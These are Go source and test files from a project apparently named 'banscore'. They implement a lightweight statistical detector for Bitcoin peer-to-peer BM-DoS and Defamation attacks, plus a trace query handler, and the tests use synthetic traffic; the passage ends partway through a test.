type queryResponse struct {
	Enabled bool   `json:"enabled"`
	SampleN int    `json:"sample_n"`
	Total   uint64 `json:"spans_total"`
	Dropped uint64 `json:"spans_dropped"`
	Sampled uint64 `json:"sampled_messages"`
	Spans   []Span `json:"spans"`
}

// QueryHandler serves the retained spans as JSON with filters:
// ?peer=, ?stage=, ?cmd=, ?trace=<id> narrow, ?n=N tails.
func (t *Tracer) QueryHandler() http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		total, dropped, sampled := t.Stats()
		resp := queryResponse{
			Enabled: t.Armed(),
			SampleN: t.SampleN(),
			Total:   total,
			Dropped: dropped,
			Sampled: sampled,
			Spans:   t.Spans(),
		}
		q := r.URL.Query()
		if peer := q.Get("peer"); peer != "" {
			resp.Spans = filterSpans(resp.Spans, func(sp Span) bool { return sp.Peer == peer })
		}
		if stage := q.Get("stage"); stage != "" {
			resp.Spans = filterSpans(resp.Spans, func(sp Span) bool { return string(sp.Stage) == stage })
		}
		if cmd := q.Get("cmd"); cmd != "" {
			resp.Spans = filterSpans(resp.Spans, func(sp Span) bool { return sp.Cmd == cmd })
		}
		if id := q.Get("trace"); id != "" {
			if tid, err := strconv.ParseUint(id, 10, 64); err == nil {
				resp.Spans = filterSpans(resp.Spans, func(sp Span) bool { return sp.TraceID == tid })
			}
		}
		if nStr := q.Get("n"); nStr != "" {
			if n, err := strconv.Atoi(nStr); err == nil && n >= 0 && n < len(resp.Spans) {
				resp.Spans = resp.Spans[len(resp.Spans)-n:]
			}
		}
		if resp.Spans == nil {
			resp.Spans = []Span{}
		}
		w.Header().Set("Content-Type", "application/json")
		_ = json.NewEncoder(w).Encode(resp)
	})
}

// ExportHandler serves the retained spans as Chrome trace-event JSON, ready
// for chrome://tracing or Perfetto.
func (t *Tracer) ExportHandler() http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		w.Header().Set("Content-Disposition", `attachment; filename="trace.json"`)
		_ = WriteChrome(w, t.Spans())
	})
}

func filterSpans(spans []Span, keep func(Span) bool) []Span {
	out := spans[:0]
	for _, sp := range spans {
		if keep(sp) {
			out = append(out, sp)
		}
	}
	return out
}
