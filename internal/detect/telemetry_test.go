package detect

import (
	"testing"
	"time"

	"banscore/internal/telemetry"
	"banscore/internal/traffic"
	"banscore/internal/wire"
)

// TestTrainSkipsEmptyWindows is the regression test for the silent-zero bug:
// a gap window with zero messages used to collapse NMin to 0 and LambdaMin
// to 0 (Pearson of a zero vector is 0), disabling the n lower bound and the
// whole Λ feature without any error.
func TestTrainSkipsEmptyWindows(t *testing.T) {
	gen := traffic.NewGenerator(42)
	windows := WindowsFromEvents(gen.Events(t0, 4*time.Hour), nil, DefaultWindow)
	clean, _, err := Train(windows, Config{})
	if err != nil {
		t.Fatal(err)
	}

	// Inject silent gap windows into the same dataset.
	poisoned := append([]WindowStats{
		{Start: t0.Add(-2 * DefaultWindow), Duration: DefaultWindow, Counts: map[string]float64{}},
	}, windows...)
	poisoned = append(poisoned, WindowStats{
		Start: t0.Add(5 * time.Hour), Duration: DefaultWindow, Counts: map[string]float64{},
	})
	trained, _, err := Train(poisoned, Config{})
	if err != nil {
		t.Fatal(err)
	}

	ct, pt := clean.Thresholds(), trained.Thresholds()
	if pt.NMin != ct.NMin {
		t.Errorf("empty windows changed NMin: %v vs clean %v", pt.NMin, ct.NMin)
	}
	if pt.LambdaMin != ct.LambdaMin {
		t.Errorf("empty windows changed LambdaMin: %v vs clean %v", pt.LambdaMin, ct.LambdaMin)
	}
	if pt.NMin == 0 {
		t.Error("NMin collapsed to 0 — silent-zero poisoning is back")
	}
	if pt.LambdaMin == 0 {
		t.Error("LambdaMin collapsed to 0 — silent-zero poisoning is back")
	}
}

func TestTrainAllEmptyWindowsErrors(t *testing.T) {
	empty := []WindowStats{
		{Start: t0, Duration: DefaultWindow, Counts: map[string]float64{}},
		{Start: t0.Add(DefaultWindow), Duration: DefaultWindow, Counts: map[string]float64{}},
	}
	if _, _, err := Train(empty, Config{}); err != ErrNoTrainingData {
		t.Errorf("Train on all-empty dataset: err = %v, want ErrNoTrainingData", err)
	}
}

// TestDetectSkipsEmptyWindow verifies the scoring half of the fix: an empty
// window comes back Skipped, never Anomalous, where it previously triggered
// the Λ feature (correlation of the zero vector is 0 < τ_Λ).
func TestDetectSkipsEmptyWindow(t *testing.T) {
	engine := trainEngine(t, 4)
	empty := WindowStats{Start: t0, Duration: DefaultWindow, Counts: map[string]float64{}}
	d := engine.Detect(empty)
	if !d.Skipped {
		t.Fatal("empty window was not skipped")
	}
	if d.Anomalous || d.TriggeredC || d.TriggeredN || d.TriggeredLambda {
		t.Errorf("skipped window carries triggers: %+v", d)
	}
	if got := d.Reasons(); got != "skipped (empty window)" {
		t.Errorf("Reasons() = %q", got)
	}

	// A reconnect-only window (Defamation signature with no chatter) must
	// still be scored on c, not skipped.
	reconn := WindowStats{Start: t0, Duration: DefaultWindow, Counts: map[string]float64{}, Reconnects: 500}
	d = engine.Detect(reconn)
	if d.Skipped {
		t.Fatal("reconnect-only window was skipped")
	}
	if !d.TriggeredC || !d.Anomalous {
		t.Errorf("reconnect flood not flagged: %+v", d)
	}
	if d.TriggeredLambda {
		t.Error("Λ triggered on a window with no messages — zero-vector correlation leaked back in")
	}
}

func TestMonitorInstrument(t *testing.T) {
	reg := telemetry.NewRegistry()
	j := telemetry.NewJournal(16)
	m := NewMonitor(time.Minute)
	m.Instrument(reg, j)

	// 10 messages spaced 20s apart close 3 windows (plus a trailing
	// partial one that Flush also completes).
	for i := 0; i < 10; i++ {
		m.OnMessage(wire.CmdTx, t0.Add(time.Duration(i)*20*time.Second))
	}
	m.OnOutboundReconnect(t0.Add(9 * 20 * time.Second))
	m.Flush()

	if got := reg.Counter("detect_windows_total").Value(); got != 4 {
		t.Errorf("detect_windows_total = %d, want 4", got)
	}
	if got := reg.Gauge("detect_window_messages").Value(); got != 1 {
		t.Errorf("detect_window_messages = %v, want 1 (last flushed window)", got)
	}
	events := j.Events()
	if len(events) != 4 {
		t.Fatalf("journal has %d events, want 4", len(events))
	}
	for _, ev := range events {
		if ev.Type != telemetry.EventDetectWindow {
			t.Errorf("event type = %q", ev.Type)
		}
	}
}

func TestEngineInstrument(t *testing.T) {
	reg := telemetry.NewRegistry()
	j := telemetry.NewJournal(16)
	engine := trainEngine(t, 4)
	engine.Instrument(reg, j)

	// One normal-ish window, one empty, one BM-DoS-shaped flood.
	gen := traffic.NewGenerator(7)
	normal := WindowsFromEvents(gen.Events(t0, time.Hour), nil, DefaultWindow)
	engine.Detect(normal[0])
	engine.Detect(WindowStats{Start: t0, Duration: DefaultWindow, Counts: map[string]float64{}})
	flood := WindowStats{
		Start: t0, Duration: DefaultWindow,
		Counts:   map[string]float64{wire.CmdPing: 1e6},
		Messages: 1e6,
	}
	d := engine.Detect(flood)
	if !d.Anomalous {
		t.Fatal("flood window not anomalous")
	}

	if got := reg.Counter("detect_windows_skipped_total").Value(); got != 1 {
		t.Errorf("skipped = %d, want 1", got)
	}
	if got := reg.Counter("detect_windows_evaluated_total").Value(); got != 2 {
		t.Errorf("evaluated = %d, want 2", got)
	}
	if got := reg.Counter("detect_alarms_total").Value(); got < 1 {
		t.Errorf("alarms = %d, want >= 1", got)
	}
	if got := reg.Gauge("detect_feature_n").Value(); got != flood.RatePerMinute() {
		t.Errorf("detect_feature_n = %v, want %v", got, flood.RatePerMinute())
	}
	alarms := 0
	for _, ev := range j.Events() {
		if ev.Type == telemetry.EventDetectAlarm {
			alarms++
		}
	}
	if alarms < 1 {
		t.Error("no EventDetectAlarm recorded")
	}
}
