package detect

import (
	"strconv"

	"banscore/internal/telemetry"
)

// fmtRate renders a feature value compactly for journal detail strings.
func fmtRate(v float64) string { return strconv.FormatFloat(v, 'g', 4, 64) }

// Instrument publishes the Monitor's windowing activity to reg and,
// optionally, j: the last completed window's feature inputs as gauges
// (detect_window_c_per_min, detect_window_n_per_min, detect_window_messages)
// plus a detect_windows_total counter and an EventDetectWindow journal entry
// per closed window. Call before attaching the Monitor to a node.
func (m *Monitor) Instrument(reg *telemetry.Registry, j *telemetry.Journal) {
	reg.Describe("detect_windows_total", "Observation windows closed by the detection Monitor.")
	windows := reg.Counter("detect_windows_total")
	reg.Describe("detect_window_c_per_min", "Reconnection rate c of the last completed window (feature input).")
	cGauge := reg.Gauge("detect_window_c_per_min")
	reg.Describe("detect_window_n_per_min", "Message rate n of the last completed window (feature input).")
	nGauge := reg.Gauge("detect_window_n_per_min")
	reg.Describe("detect_window_messages", "Total messages in the last completed window.")
	msgGauge := reg.Gauge("detect_window_messages")

	m.OnWindowComplete(func(w WindowStats) {
		windows.Inc()
		cGauge.Set(w.ReconnectRatePerMinute())
		nGauge.Set(w.RatePerMinute())
		msgGauge.Set(float64(w.Messages))
		j.Record(telemetry.Event{
			At:    w.Start.Add(w.Duration),
			Type:  telemetry.EventDetectWindow,
			Value: float64(w.Messages),
			Detail: "c=" + fmtRate(w.ReconnectRatePerMinute()) +
				"/min n=" + fmtRate(w.RatePerMinute()) + "/min",
		})
	})
}

// engineTelemetry is the Engine's optional metric surface. All methods are
// nil-safe so the uninstrumented Detect path costs one nil check.
type engineTelemetry struct {
	evaluated *telemetry.Counter
	skipped   *telemetry.Counter
	alarms    *telemetry.Counter
	cGauge    *telemetry.Gauge
	nGauge    *telemetry.Gauge
	lambda    *telemetry.Gauge
	journal   *telemetry.Journal
}

// Instrument publishes the Engine's verdicts to reg and, optionally, j: the
// measured feature values of the last evaluated window as gauges
// (detect_feature_c, detect_feature_n, detect_feature_lambda), counters for
// evaluated/skipped/alarmed windows, and an EventDetectAlarm journal entry
// for every anomalous verdict.
func (e *Engine) Instrument(reg *telemetry.Registry, j *telemetry.Journal) {
	reg.Describe("detect_windows_evaluated_total", "Windows scored by the analysis engine.")
	reg.Describe("detect_windows_skipped_total", "Empty windows the engine skipped instead of scoring.")
	reg.Describe("detect_alarms_total", "Windows the engine flagged as anomalous.")
	reg.Describe("detect_feature_c", "Reconnection rate c of the last evaluated window.")
	reg.Describe("detect_feature_n", "Message rate n of the last evaluated window.")
	reg.Describe("detect_feature_lambda", "Distribution correlation rho of the last evaluated window.")
	e.tele = &engineTelemetry{
		evaluated: reg.Counter("detect_windows_evaluated_total"),
		skipped:   reg.Counter("detect_windows_skipped_total"),
		alarms:    reg.Counter("detect_alarms_total"),
		cGauge:    reg.Gauge("detect_feature_c"),
		nGauge:    reg.Gauge("detect_feature_n"),
		lambda:    reg.Gauge("detect_feature_lambda"),
		journal:   j,
	}
}

// observe records one verdict against the window that produced it.
func (t *engineTelemetry) observe(d Detection, w WindowStats) {
	if t == nil {
		return
	}
	if d.Skipped {
		t.skipped.Inc()
		return
	}
	t.evaluated.Inc()
	t.cGauge.Set(d.C)
	t.nGauge.Set(d.N)
	t.lambda.Set(d.Rho)
	if d.Anomalous {
		t.alarms.Inc()
		t.journal.Record(telemetry.Event{
			At:     w.Start.Add(w.Duration),
			Type:   telemetry.EventDetectAlarm,
			Value:  d.Rho,
			Detail: d.Reasons(),
		})
	}
}
