// Package detect implements the paper's countermeasure (§VII): a
// lightweight, identifier-oblivious anomaly-detection engine built from
// three components — Monitor (message tap), Dataset (windowed counts), and
// the statistical Analysis engine with the paper's three features:
//
//	c — outbound peer reconnection rate (Defamation signature),
//	n — overall message rate (BM-DoS signature),
//	Λ — message count distribution, compared by Pearson correlation ρ.
//
// The approach needs no Bitcoin Core change and no machine learning; the
// Fig. 11 comparison against seven ML baselines lives in package mlbase.
package detect

import (
	"fmt"
	"sort"
	"sync"
	"time"

	"banscore/internal/trace"
	"banscore/internal/traffic"
)

// DefaultWindow is the paper's detection time window (10 minutes).
const DefaultWindow = 10 * time.Minute

// WindowStats is one Dataset entry: everything the Monitor observed in one
// time window.
type WindowStats struct {
	Start    time.Time
	Duration time.Duration

	// Counts per message command.
	Counts map[string]float64

	// Messages is the total message count.
	Messages int

	// Reconnects is the number of outbound peer reconnections.
	Reconnects int
}

// RatePerMinute returns the window's overall message rate n.
func (w WindowStats) RatePerMinute() float64 {
	minutes := w.Duration.Minutes()
	if minutes == 0 {
		return 0
	}
	return float64(w.Messages) / minutes
}

// ReconnectRatePerMinute returns the window's reconnection rate c.
func (w WindowStats) ReconnectRatePerMinute() float64 {
	minutes := w.Duration.Minutes()
	if minutes == 0 {
		return 0
	}
	return float64(w.Reconnects) / minutes
}

// Commands returns the window's observed commands, sorted.
func (w WindowStats) Commands() []string {
	cmds := make([]string, 0, len(w.Counts))
	for cmd := range w.Counts {
		cmds = append(cmds, cmd)
	}
	sort.Strings(cmds)
	return cmds
}

// Monitor is the node-attached collection component (Fig. 9). It implements
// the node's Tap interface and rolls observations into fixed windows.
// Monitor is safe for concurrent use.
type Monitor struct {
	window time.Duration

	mu         sync.Mutex
	current    *WindowStats
	completed  []WindowStats
	onComplete func(WindowStats)
	tracer     *trace.Tracer
}

// NewMonitor returns a Monitor with the given window length (zero selects
// DefaultWindow).
func NewMonitor(window time.Duration) *Monitor {
	if window == 0 {
		window = DefaultWindow
	}
	return &Monitor{window: window}
}

// Window returns the configured window length.
func (m *Monitor) Window() time.Duration { return m.window }

// OnWindowComplete registers fn to be invoked for every window the Monitor
// closes (including the empty gap windows of quiet periods). fn runs with
// the Monitor's lock held and must not call back into the Monitor; keep it
// cheap — the telemetry layer uses it to publish live window gauges.
func (m *Monitor) OnWindowComplete(fn func(WindowStats)) {
	m.mu.Lock()
	defer m.mu.Unlock()
	m.onComplete = fn
}

// SetTracer installs the lifecycle tracer: every window the Monitor closes
// while tracing is enabled is recorded as a detect_window span (unsampled —
// windows are rare and each one is a detection verdict input).
func (m *Monitor) SetTracer(t *trace.Tracer) {
	m.mu.Lock()
	defer m.mu.Unlock()
	m.tracer = t
}

// roll opens/advances windows so that `at` falls into the current one.
// Caller holds mu.
func (m *Monitor) roll(at time.Time) {
	if m.current == nil {
		m.current = &WindowStats{
			Start:    at,
			Duration: m.window,
			Counts:   make(map[string]float64),
		}
		return
	}
	for !at.Before(m.current.Start.Add(m.window)) {
		m.completed = append(m.completed, *m.current)
		if m.onComplete != nil {
			m.onComplete(*m.current)
		}
		m.traceWindow(*m.current)
		m.current = &WindowStats{
			Start:    m.current.Start.Add(m.window),
			Duration: m.window,
			Counts:   make(map[string]float64),
		}
	}
}

// traceWindow records a closed window on the lifecycle tracer. Caller holds
// mu; the tracer has its own lock and never calls back into the Monitor.
func (m *Monitor) traceWindow(w WindowStats) {
	if ctx := m.tracer.Always(); ctx != nil {
		ctx.Add(trace.Span{
			Stage: trace.StageDetectWindow,
			Note:  fmt.Sprintf("messages=%d reconnects=%d", w.Messages, w.Reconnects),
			Start: w.Start, Duration: w.Duration,
		})
	}
}

// OnMessage implements the node Tap: record one message arrival.
//
//banlint:hotpath per-message detection tap: map bump in the live window, rollover allocates in roll()
func (m *Monitor) OnMessage(cmd string, at time.Time) {
	m.mu.Lock()
	defer m.mu.Unlock()
	m.roll(at)
	m.current.Counts[cmd]++
	m.current.Messages++
}

// OnOutboundReconnect implements the node Tap: record one outbound
// reconnection.
func (m *Monitor) OnOutboundReconnect(at time.Time) {
	m.mu.Lock()
	defer m.mu.Unlock()
	m.roll(at)
	m.current.Reconnects++
}

// Windows returns the completed windows collected so far (the Dataset).
func (m *Monitor) Windows() []WindowStats {
	m.mu.Lock()
	defer m.mu.Unlock()
	out := make([]WindowStats, len(m.completed))
	copy(out, m.completed)
	return out
}

// Flush closes the current partial window into the dataset and returns the
// full dataset.
func (m *Monitor) Flush() []WindowStats {
	m.mu.Lock()
	defer m.mu.Unlock()
	if m.current != nil && m.current.Messages+m.current.Reconnects > 0 {
		m.completed = append(m.completed, *m.current)
		if m.onComplete != nil {
			m.onComplete(*m.current)
		}
		m.current = nil
	}
	out := make([]WindowStats, len(m.completed))
	copy(out, m.completed)
	return out
}

// Reset clears all collected state.
func (m *Monitor) Reset() {
	m.mu.Lock()
	defer m.mu.Unlock()
	m.current = nil
	m.completed = nil
}

// WindowsFromEvents builds a Dataset directly from an offline event stream
// plus reconnect timestamps — how the experiments replay synthetic Mainnet
// feeds through the identical windowing code. Events and reconnects must be
// time-ordered (the Monitor advances monotonically). Only COMPLETED windows
// are returned; the trailing partial window is discarded, as a live engine
// would wait for it to fill.
func WindowsFromEvents(events []traffic.Event, reconnects []time.Time, window time.Duration) []WindowStats {
	m := NewMonitor(window)
	ri := 0
	for _, ev := range events {
		for ri < len(reconnects) && !reconnects[ri].After(ev.At) {
			m.OnOutboundReconnect(reconnects[ri])
			ri++
		}
		m.OnMessage(ev.Cmd, ev.At)
	}
	for ri < len(reconnects) {
		m.OnOutboundReconnect(reconnects[ri])
		ri++
	}
	return m.Windows()
}
