package detect

import (
	"errors"
	"fmt"
	"sort"
	"strings"
	"time"

	"banscore/internal/stats"
)

// ErrNoTrainingData is returned by Train on an empty dataset.
var ErrNoTrainingData = errors.New("detect: no training windows")

// Thresholds are the trained reference profile of the analysis engine —
// the τ_c, τ_n, τ_Λ values of §VII-A2.
type Thresholds struct {
	// CMin/CMax bound the normal reconnection rate per minute
	// (paper: τ_c = [0, 2.1]).
	CMin, CMax float64

	// NMin/NMax bound the normal message rate per minute
	// (paper: τ_n = [252, 390]).
	NMin, NMax float64

	// LambdaMin is the minimum acceptable Pearson correlation between a
	// window's count distribution and the reference profile
	// (paper: τ_Λ = 0.993).
	LambdaMin float64

	// Commands fixes the vector order of the reference distribution.
	Commands []string

	// Reference is the normalized mean count distribution over Commands.
	Reference []float64
}

// String renders the thresholds the way the paper reports them.
func (t Thresholds) String() string {
	return fmt.Sprintf("τ_c=[%.1f, %.1f] rec/min, τ_n=[%.0f, %.0f] msg/min, τ_Λ=%.3f",
		t.CMin, t.CMax, t.NMin, t.NMax, t.LambdaMin)
}

// Detection is the verdict on one window.
type Detection struct {
	Anomalous bool

	// Skipped marks a window that carried no samples at all (no messages
	// and no reconnects — a silent gap in the feed). Such a window has no
	// distribution to correlate and a meaningless rate of exactly zero;
	// scoring it would flag every quiet period as an attack. A skipped
	// window is never Anomalous.
	Skipped bool

	// Per-feature triggers.
	TriggeredC      bool
	TriggeredN      bool
	TriggeredLambda bool

	// Measured feature values.
	C   float64
	N   float64
	Rho float64
}

// Reasons lists the triggered features in a human-readable form.
func (d Detection) Reasons() string {
	if d.Skipped {
		return "skipped (empty window)"
	}
	var out []string
	if d.TriggeredC {
		out = append(out, fmt.Sprintf("reconnection rate c=%.1f/min outside τ_c", d.C))
	}
	if d.TriggeredN {
		out = append(out, fmt.Sprintf("message rate n=%.0f/min outside τ_n", d.N))
	}
	if d.TriggeredLambda {
		out = append(out, fmt.Sprintf("distribution correlation ρ=%.3f below τ_Λ", d.Rho))
	}
	if len(out) == 0 {
		return "normal"
	}
	return strings.Join(out, "; ")
}

// Config tunes training.
type Config struct {
	// Margin widens the learned n bounds multiplicatively and relaxes
	// LambdaMin slightly, absorbing sampling noise. 0 selects 1.0
	// (exact min/max like the paper's reported fixed thresholds).
	Margin float64
}

// Engine is the trained analysis engine. The zero value is not usable; call
// Train.
type Engine struct {
	thresholds Thresholds
	tele       *engineTelemetry // nil unless Instrument was called
}

// Train fits the thresholds from normal-traffic windows — the paper's
// ~35-hour training pass compressed to its statistical essence. It also
// returns the wall-clock training latency for the Fig. 11 comparison.
func Train(windows []WindowStats, cfg Config) (*Engine, time.Duration, error) {
	start := time.Now()
	// Empty windows (no messages at all) are silent gaps in the training
	// feed, not samples of normal behavior. Keeping them would silently
	// zero two thresholds: NMin collapses to 0 (a message rate of 0
	// becomes "normal") and LambdaMin collapses to 0 (the Pearson
	// correlation of a zero vector is 0), disabling the Λ feature
	// entirely. Skip them instead of scoring them.
	trainable := windows[:0:0]
	for _, w := range windows {
		if w.Messages > 0 {
			trainable = append(trainable, w)
		}
	}
	windows = trainable
	if len(windows) == 0 {
		return nil, 0, ErrNoTrainingData
	}
	margin := cfg.Margin
	if margin == 0 {
		margin = 1.0
	}

	// Union of observed commands fixes the distribution vector order.
	cmdSet := make(map[string]struct{})
	for _, w := range windows {
		for cmd := range w.Counts {
			cmdSet[cmd] = struct{}{}
		}
	}
	commands := make([]string, 0, len(cmdSet))
	for cmd := range cmdSet {
		commands = append(commands, cmd)
	}
	sort.Strings(commands)

	// Reference profile: normalized mean counts.
	reference := make([]float64, len(commands))
	for _, w := range windows {
		for i, cmd := range commands {
			reference[i] += w.Counts[cmd]
		}
	}
	reference = stats.Normalize(reference)

	// Feature bounds over the training windows.
	var cs, ns, rhos []float64
	for _, w := range windows {
		cs = append(cs, w.ReconnectRatePerMinute())
		ns = append(ns, w.RatePerMinute())
		rho, err := stats.PearsonCorrelation(vectorize(w, commands), reference)
		if err != nil {
			return nil, 0, err
		}
		rhos = append(rhos, rho)
	}

	th := Thresholds{
		CMin:      stats.Min(cs),
		CMax:      stats.Max(cs),
		NMin:      stats.Min(ns) / margin,
		NMax:      stats.Max(ns) * margin,
		LambdaMin: stats.Min(rhos),
		Commands:  commands,
		Reference: reference,
	}
	// A constant training c of 0 still allows the occasional organic
	// reconnection: widen the upper bound by the margin, at least 1/min.
	if th.CMax == 0 {
		th.CMax = 1
	}
	th.CMax *= margin
	if margin > 1 {
		th.LambdaMin = 1 - (1-th.LambdaMin)*margin
	}

	return &Engine{thresholds: th}, time.Since(start), nil
}

// NewEngine builds an engine from explicit thresholds (e.g. the paper's
// published τ values).
func NewEngine(th Thresholds) *Engine { return &Engine{thresholds: th} }

// Thresholds returns the trained thresholds.
func (e *Engine) Thresholds() Thresholds { return e.thresholds }

// vectorize maps a window's counts onto the fixed command order, normalized.
func vectorize(w WindowStats, commands []string) []float64 {
	v := make([]float64, len(commands))
	for i, cmd := range commands {
		v[i] = w.Counts[cmd]
	}
	return stats.Normalize(v)
}

// Detect evaluates one window against the thresholds. A window carrying no
// samples at all is skipped, not scored: its zero vector has no correlation
// with any reference, so evaluating it would report every silent gap as a
// Λ anomaly.
func (e *Engine) Detect(w WindowStats) Detection {
	th := e.thresholds
	if w.Messages == 0 && w.Reconnects == 0 {
		d := Detection{Skipped: true}
		e.tele.observe(d, w)
		return d
	}
	d := Detection{
		C: w.ReconnectRatePerMinute(),
		N: w.RatePerMinute(),
	}
	d.TriggeredC = d.C < th.CMin || d.C > th.CMax
	d.TriggeredN = d.N < th.NMin || d.N > th.NMax
	if w.Messages > 0 {
		rho, err := stats.PearsonCorrelation(vectorize(w, th.Commands), th.Reference)
		if err == nil {
			d.Rho = rho
		}
		d.TriggeredLambda = d.Rho < th.LambdaMin
	}
	d.Anomalous = d.TriggeredC || d.TriggeredN || d.TriggeredLambda
	e.tele.observe(d, w)
	return d
}

// DetectAll evaluates a dataset, returning the per-window verdicts and the
// total testing latency (Fig. 11's testing-time metric).
func (e *Engine) DetectAll(windows []WindowStats) ([]Detection, time.Duration) {
	start := time.Now()
	out := make([]Detection, len(windows))
	for i, w := range windows {
		out[i] = e.Detect(w)
	}
	return out, time.Since(start)
}

// Accuracy scores verdicts against ground-truth labels (true = anomalous).
func Accuracy(verdicts []Detection, labels []bool) float64 {
	if len(verdicts) == 0 || len(verdicts) != len(labels) {
		return 0
	}
	correct := 0
	for i, v := range verdicts {
		if v.Anomalous == labels[i] {
			correct++
		}
	}
	return float64(correct) / float64(len(verdicts))
}
