package detect

import (
	"sync"
	"testing"
	"time"

	"banscore/internal/traffic"
	"banscore/internal/wire"
)

var t0 = time.Unix(1700000000, 0)

// trainEngine fits an engine on synthetic normal traffic.
func trainEngine(t *testing.T, hours int) *Engine {
	t.Helper()
	gen := traffic.NewGenerator(42)
	events := gen.Events(t0, time.Duration(hours)*time.Hour)
	windows := WindowsFromEvents(events, nil, DefaultWindow)
	engine, _, err := Train(windows, Config{Margin: 1.15})
	if err != nil {
		t.Fatal(err)
	}
	return engine
}

func TestMonitorWindowing(t *testing.T) {
	m := NewMonitor(time.Minute)
	for i := 0; i < 10; i++ {
		m.OnMessage(wire.CmdTx, t0.Add(time.Duration(i)*20*time.Second))
		if i == 1 {
			// In time order: the monitor advances monotonically.
			m.OnOutboundReconnect(t0.Add(30 * time.Second))
		}
	}
	windows := m.Flush()
	// 10 events spaced 20s apart span [0s,180s]: 4 windows (the last
	// partial one flushed).
	if len(windows) != 4 {
		t.Fatalf("windows = %d, want 4", len(windows))
	}
	if windows[0].Messages != 3 || windows[0].Reconnects != 1 {
		t.Errorf("window 0 = %+v", windows[0])
	}
	if windows[0].Counts[wire.CmdTx] != 3 {
		t.Errorf("window 0 tx count = %v", windows[0].Counts[wire.CmdTx])
	}
}

func TestMonitorRatesAndHelpers(t *testing.T) {
	w := WindowStats{
		Start:      t0,
		Duration:   10 * time.Minute,
		Counts:     map[string]float64{"tx": 3000, "ping": 200},
		Messages:   3200,
		Reconnects: 53,
	}
	if got := w.RatePerMinute(); got != 320 {
		t.Errorf("RatePerMinute = %v", got)
	}
	if got := w.ReconnectRatePerMinute(); got != 5.3 {
		t.Errorf("ReconnectRatePerMinute = %v", got)
	}
	cmds := w.Commands()
	if len(cmds) != 2 || cmds[0] != "ping" || cmds[1] != "tx" {
		t.Errorf("Commands = %v", cmds)
	}
	var empty WindowStats
	if empty.RatePerMinute() != 0 || empty.ReconnectRatePerMinute() != 0 {
		t.Error("zero-duration window rates should be 0")
	}
}

func TestMonitorReset(t *testing.T) {
	m := NewMonitor(time.Minute)
	m.OnMessage("tx", t0)
	m.Reset()
	if got := m.Flush(); len(got) != 0 {
		t.Errorf("windows after reset = %d", len(got))
	}
	if m.Window() != time.Minute {
		t.Error("window accessor")
	}
}

func TestTrainRequiresData(t *testing.T) {
	if _, _, err := Train(nil, Config{}); err != ErrNoTrainingData {
		t.Errorf("Train(nil) = %v", err)
	}
}

func TestTrainedThresholdsResemblePaper(t *testing.T) {
	engine := trainEngine(t, 35) // the paper trained ~35 hours
	th := engine.Thresholds()
	// τ_n should bracket the generator's 320 msg/min and stay inside a
	// plausible band around the paper's [252, 390].
	if th.NMin > 320 || th.NMax < 320 {
		t.Errorf("τ_n = [%v, %v] does not bracket 320", th.NMin, th.NMax)
	}
	if th.NMin < 180 || th.NMax > 480 {
		t.Errorf("τ_n = [%v, %v] implausibly wide", th.NMin, th.NMax)
	}
	// τ_c: no reconnects in normal training, so a small allowance.
	if th.CMax <= 0 || th.CMax > 3 {
		t.Errorf("τ_c max = %v", th.CMax)
	}
	// τ_Λ: normal windows are highly self-similar.
	if th.LambdaMin < 0.9 || th.LambdaMin >= 1 {
		t.Errorf("τ_Λ = %v, want high correlation threshold", th.LambdaMin)
	}
	if th.String() == "" {
		t.Error("empty threshold string")
	}
}

func TestNormalTrafficNotFlagged(t *testing.T) {
	engine := trainEngine(t, 35)
	// Fresh normal traffic from a different seed.
	events := traffic.NewGenerator(7).Events(t0.Add(100*time.Hour), 2*time.Hour)
	windows := WindowsFromEvents(events, nil, DefaultWindow)
	verdicts, _ := engine.DetectAll(windows)
	flagged := 0
	for _, v := range verdicts {
		if v.Anomalous {
			flagged++
		}
	}
	// Allow at most a stray window at the boundary.
	if flagged > len(verdicts)/10 {
		t.Errorf("%d/%d normal windows flagged", flagged, len(verdicts))
	}
}

func TestBMDoSDetected(t *testing.T) {
	engine := trainEngine(t, 35)
	start := t0.Add(200 * time.Hour)
	normal := traffic.NewGenerator(9).Events(start, time.Hour)
	// The paper's under-BM-DoS case: ~15,000 msg/min of PING flooding.
	flood := traffic.FloodEvents(wire.CmdPing, start, time.Hour, 15000)
	windows := WindowsFromEvents(traffic.Overlay(normal, flood), nil, DefaultWindow)
	verdicts, _ := engine.DetectAll(windows)
	if len(verdicts) == 0 {
		t.Fatal("no windows")
	}
	for i, v := range verdicts {
		if !v.Anomalous {
			t.Fatalf("window %d not flagged: %+v", i, v)
		}
		if !v.TriggeredN {
			t.Errorf("window %d: message rate feature missed a 15k/min flood (n=%v)", i, v.N)
		}
		if !v.TriggeredLambda {
			t.Errorf("window %d: distribution feature missed the flood (ρ=%v)", i, v.Rho)
		}
		// The paper measured ρ = 0.05 under BM-DoS: PING dominance
		// destroys the correlation.
		if v.Rho > 0.5 {
			t.Errorf("window %d: ρ = %v, want near zero under PING dominance", i, v.Rho)
		}
	}
}

func TestDefamationDetected(t *testing.T) {
	engine := trainEngine(t, 35)
	start := t0.Add(300 * time.Hour)
	normal := traffic.NewGenerator(11).Events(start, time.Hour)
	// The paper's under-Defamation case: c = 5.3 reconnections/min.
	defEvents, reconnects := traffic.DefamationEvents(start, time.Hour, 5.3)
	windows := WindowsFromEvents(traffic.Overlay(normal, defEvents), reconnects, DefaultWindow)
	verdicts, _ := engine.DetectAll(windows)
	if len(verdicts) == 0 {
		t.Fatal("no windows")
	}
	for i, v := range verdicts {
		if !v.Anomalous {
			t.Fatalf("window %d not flagged: %+v", i, v)
		}
		if !v.TriggeredC {
			t.Errorf("window %d: reconnection feature missed c=%v", i, v.C)
		}
		// Defamation distorts the distribution mildly (paper: ρ = 0.88
		// vs BM-DoS's 0.05): correlation stays moderate-to-high.
		if v.Rho < 0.5 {
			t.Errorf("window %d: ρ = %v, defamation should distort far less than BM-DoS", i, v.Rho)
		}
	}
}

func TestDefamationLessDistortingThanBMDoS(t *testing.T) {
	engine := trainEngine(t, 35)
	start := t0.Add(400 * time.Hour)

	normal1 := traffic.NewGenerator(13).Events(start, time.Hour)
	flood := traffic.FloodEvents(wire.CmdPing, start, time.Hour, 15000)
	bmdos := WindowsFromEvents(traffic.Overlay(normal1, flood), nil, DefaultWindow)

	normal2 := traffic.NewGenerator(17).Events(start, time.Hour)
	defEvents, reconnects := traffic.DefamationEvents(start, time.Hour, 5.3)
